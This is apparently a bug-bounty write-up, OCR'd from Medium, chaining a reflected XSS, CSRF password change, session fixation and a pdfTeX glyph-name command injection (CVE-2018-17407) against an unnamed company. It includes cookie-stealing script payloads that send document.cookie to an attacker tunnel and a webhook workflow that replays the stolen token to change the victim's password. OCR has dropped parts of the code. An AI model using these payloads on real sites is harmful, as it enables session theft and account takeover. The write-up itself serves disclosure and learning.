From XSS To CSRF | One-click Authorized Access To Account Takeover

Hey Guys, I’ll show you today my last finding in a company maybe going to be a tech unicorn very soon! The name of the company is obscure based on a policy of the company itself.

Chain 4 Vulnerabilities To Reach Maximum Impact Possible

1st — [Reflected XSS] -

XSS enables attackers to inject client-side scripts into HTML context viewed by other users. So I tried to execute a simple payload in the search box.


and it worked!

Honestly, I didn’t expect that. So I decided to dig more with a high confident that I would find more vulnerabilities. The impact of this vulnerability is very dangerous on the user.because of the ability to steal user cookies and access them again to the website. I used ngrok to make tunnels to my localhost and pass document.cookie value using HTTP request through XMLHttpRequest (XHR)

let’s remove spaces and make the code condensed quite a bit.

<script>x=new XMLHttpRequest();'GET',''+document.cookie);x.send();</script>

When we check ngrok dashboard. we got the user cookies in the request. you can notice the most important one user_access_token, we will mention it later.

We can add this cookies to the browser and send it to the website and login as a vicitm.

2nd — [Cross-SiteRequest Forgery] -

I intercept changing password request, Looking carefully, I noticed that JSON web token that we get from previous XSS (user_access_token) is used without CSRF token, So I was able to change thepassword and take over the account. Moreover, the API returns user information contains sensitive info like email. So the attacker can use it to login without any hassle.

Replace the JWT in Authorization header with the user_access_token leads to change the password on behalf of the user.


I tried to chain XSS with CSRF to takeover the account and increase the impact of the vulnerabilities with a scenario I called it “Link2Hack” which needs a vicitm to click on the link to hijack the session cookies and change the password and retrieve the email’s vicitim in the response instantly.

To impelement this scenario I select the fastest way to make the POC using pipedream forcreating webhook So we’re able to handle the response and make http request again to endpoint to change the password without manage a server. Also, Pipedream allows you to run javascript code with node.js enviroment!

let’s jump to the practical part.

1) Maintain your workflow

when you click on new workflow. you’ll get your workflow endpoint eg:-

add a new action to your workflow by clicking on the + button between any two steps.

I will choose the fastest way and select “Send HTTP Request”. it has one required parameter: the URL where you want to send the HTTP request. I’d like to change the HTTP method, add an HTTP payload, query string parameters or headers, I can click the add individual property. I change the method to ‘PATCH’ then set the headers which’s very important to make correct request.

Accept: application/vnd.api+json , Origin:, Content-Type: application/vnd.api+json Authorization: Bearer

Now, We’re going to work on Authorization header and concatenate user_access_token value to ‘Bearer’ word since the application used JWT. I’ll pass this value through ‘c’ parameter through steps objects, for example:

I can access properties of the HTTP request using event object• steps.trigger.event.body : A string or object representation of the HTTP payload
  • steps.trigger.event.client_ip : IP address of the client that made the request
  • steps.trigger.event.headers : HTTP headers, represented as an object
  • steps.trigger.event.method : HTTP method
  • steps.trigger.event.url : Request host + path
  • steps.trigger.event.query : URL Parameters

Accessing to ‘c’ parameter would be like that steps.trigger.event.query.c

Final step: add body of the request in payload parameter, which contains the password.

2) Get specific cookie value

since we got other values ( LiToken — ci_sessions— user_access_token) We need only user_access_token to make the request. for cutting this off from cookies I’ll use regex. replace() method searches a string for a specified value, or a regular expression, and returns a new string where the specified values are replaced.

replace(searchValue, replacer)

document.cookie.replace(/(?:(?:^|.*;\s*)user_access_token\s*\=\s*([^;]*).*$)|^.*$/, "$1")

So the final payload gonna be like this:

<script>var Cooki=document.cookie.replace(/(?:(?:^|.*;\s*)user_access_token\s*\=\s*([^;]*).*$)|^.*$/, "$1");x=new XMLHttpRequest();'GET',''+Cooki,false);x.send();</script>

Well-done everything sets right. The full url:<script>var Cooki=document.cookie.replace(/(?:(?:^|.*;\s*)user_access_token\s*\=\s*([^;]*).*$)|^.*$/, "$1");x=newXMLHttpRequest();'GET',''+Cooki,false);x.send();</script>

with URL-encoding will be ready to send. Once a user click on the link the javascript code will be executed and hijack the session cookies then change the password plus retrieve the email’s user in the response to signin.

3rd — [Session Fixation] -

Session Fixation is about authenticating a user, or otherwise establishing a new user session, without invalidating any existing session identifier (SessionID) gives an attacker the opportunity to steal authenticated sessions or creates a new session on a web application and records the associated session identifier. Unfortunately, this’s what happened in this web app. After Changing the password the pervious SID still works. Which means the user continue using his account after the password has changed.

4th — Possible Buffer Overflow]-

The Company allows you to generate CV from your profile which will be created in PDF format. I generate a CV and download it. then I tried to extract pdf metadata using exiftool.

This is pdfTeX, Version3.14159265–2.6–1.40.15 (TeX Live 2015/dev/Debian) kpathsea version 6.2.1dev. from TeX Users Group website:

This version is affected by Buffer Overflow [CVE-2018–17407] which was discovered in TeX Live before 2018–09–21. Briefly, We can use it to redirect the name of the glyph from the font file to serve as an argument to system().But what is the glyph? glyph is a graphical symbol which is used to represent a readabe character for the purposes of writing. using pdffonts to know fonts in our pdf:

Its contents are loaded into memory from reading entries like these from the .pfb file:

So the exploit as follows: dup 72 /COMMAND_HERE put for example

dup 72 /whoami put which execute the command with the permissions of the pdflatex process. Since this vulnerability wasn't in the web application, I wouldn't able to produce it. For further information you can see this awesome blog by Nick Roessler who discovered this vulnerability.Thank you for reaching this point. Your feedback is highly appreciated twitter: @Psych0x02

InfoSec Student

Get the Medium app

A button that says 'Download on the App Store', and if clicked it willlead you to the iOS App store
A button that says 'Get it on, Google Play', and if clicked it will lead you to the Google Play store